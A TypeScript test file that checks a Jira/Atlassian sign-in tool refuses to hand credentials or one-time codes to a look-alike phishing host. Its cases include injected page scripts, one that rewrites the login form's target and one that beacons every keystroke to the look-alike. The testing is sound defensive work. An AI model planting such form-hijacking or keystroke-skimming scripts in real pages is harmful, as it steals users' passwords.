import { type AnyHost, type Answer, anyHolds, listenOnAnyHost } from '../../fixtures/any-host.js';
import { codePage, signInPage } from '../../fixtures/sign-in-page.js';
import type { Sites } from '../../fixtures/sites/index.js';
import { expect, test } from '../../fixtures/test.js';

const JIRA = 'acme.jira.localhost';
const ID = 'id.atlassian.localhost';
const LOOK_ALIKE = 'id.atlassian-com.localhost';

const USERNAME = 'jira-align-service@acme.example';
/** What forms, JSON and addresses all write as it is; the password around it holds what they do not. */
const WORD = 'Kx7QwPz9';
const PASSWORD = `${WORD} &<"%+é`;

/** A key of the second factor, and what its form is told of. */
const SEED = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP';

/** One way to lead a sign-in astray: what the sign-in page is, on the genuine origin and on the look-alike's. */
interface Case {
  readonly what: string;
  /** Where Jira sends who is not signed in. */
  readonly leadsTo?: string;
  readonly genuine: (site: AnyHost) => string;
  readonly lookAlike: (site: AnyHost) => string;
  readonly code: 'password-misplaced' | 'person-needed';
}

const form = (): string => signInPage(USERNAME);
const frame = (site: AnyHost, host: string): string => `<iframe src="${site.origin(host)}/login"></iframe>`;

const cases: readonly Case[] = [
  {
    what: 'Jira sends the browser to a look-alike',
    leadsTo: LOOK_ALIKE,
    genuine: form,
    lookAlike: form,
    code: 'person-needed',
  },
  {
    what: 'the genuine page has the look-alike in a frame',
    genuine: (site) => frame(site, LOOK_ALIKE),
    lookAlike: form,
    code: 'password-misplaced',
  },
  {
    what: 'the look-alike has the genuine form in a frame',
    leadsTo: LOOK_ALIKE,
    genuine: form,
    lookAlike: (site) => frame(site, ID),
    code: 'person-needed',
  },
  {
    what: 'the genuine form posts to the look-alike',
    genuine: (site) => signInPage(USERNAME, site.origin(LOOK_ALIKE)),
    lookAlike: form,
    code: 'password-misplaced',
  },
  {
    what: 'a script turns the genuine form to the look-alike when it is submitted',
    genuine: (site) =>
      signInPage(
        USERNAME,
        '/rest/authenticate',
        `<script>document.forms[0].onsubmit = (event) => { event.target.action = '${site.origin(LOOK_ALIKE)}'; };</script>`,
      ),
    lookAlike: form,
    code: 'password-misplaced',
  },
  {
    what: 'a script on the genuine page posts what is typed to the look-alike',
    genuine: (site) =>
      signInPage(
        USERNAME,
        '/rest/authenticate',
        `<script>document.forms[0].oninput = (event) => { navigator.sendBeacon('${site.origin(LOOK_ALIKE)}', btoa(encodeURIComponent(event.target.value))); };</script>`,
      ),
    lookAlike: form,
    code: 'password-misplaced',
  },
  {
    what: 'the form for the code is the look-alike’s, in a frame of the genuine page',
    genuine: (site) => frame(site, LOOK_ALIKE),
    lookAlike: () => codePage(),
    code: 'password-misplaced',
  },
];

for (const { what, leadsTo = ID, genuine, lookAlike, code } of cases) {
  test(`where ${what}, the run stops with 3 and the look-alike gets nothing`, async ({ operator }) => {
    const site = await listenOnAnyHost(({ host, path }, own): Answer => {
      if (host === JIRA && path.startsWith('/rest/')) return { status: 401 };
      if (host === JIRA) return { status: 302, headers: { location: `${own.origin(leadsTo)}/login` } };
      return { body: host === ID ? genuine(own) : lookAlike(own) };
    });
    const { exitCode, result, stdout, stderr } = await operator.run(['verify'], {
      JIRA_URL: site.origin(JIRA),
      ATLASSIAN_ID_URL: site.origin(ID),
      JIRA_USERNAME: USERNAME,
      JIRA_PASSWORD: PASSWORD,
      JIRA_TOTP_SECRET: SEED,
      ALIGN_URL: '',
      ALIGN_USERNAME: '',
      ALIGN_PASSWORD: '',
      TIMEOUT_SIGN_IN: '10',
    });
    await site.stop();
    expect(exitCode, stderr).toBe(3);
    expect(result.error?.code, stderr).toBe(code);
    const theirs = site.log.filter(({ host }) => host === LOOK_ALIKE);
    expect(anyHolds(theirs, WORD)).toBe(false);
    expect(theirs.filter(({ body }) => /otpCode=\d/.test(body.toString()))).toEqual([]);
    expect(stdout + stderr).not.toContain(WORD);
  });
}

function fromBrowser(sites: Sites): string[][] {
  return sites.changes.filter(({ from }) => from === 'browser').map(({ site, what }) => [site, what]);
}

test('a password that is refused is sent once, and nothing else is tried with it', async ({ sites, operator }) => {
  const { exitCode, stderr } = await operator.run(['swap'], { JIRA_PASSWORD: 'not-the-password' });
  expect(exitCode, stderr).toBe(3);
  expect(fromBrowser(sites)).toEqual([['atlassian-id', 'sign-in-refused']]);
});

test('nor is one that Jira Align refuses', async ({ sites, operator }) => {
  const { exitCode, stderr } = await operator.run(['swap'], { ALIGN_PASSWORD: 'not-the-password' });
  expect(exitCode, stderr).toBe(3);
  expect(fromBrowser(sites)).toEqual([
    ['atlassian-id', 'sign-in'],
    ['align', 'sign-in-refused'],
  ]);
});
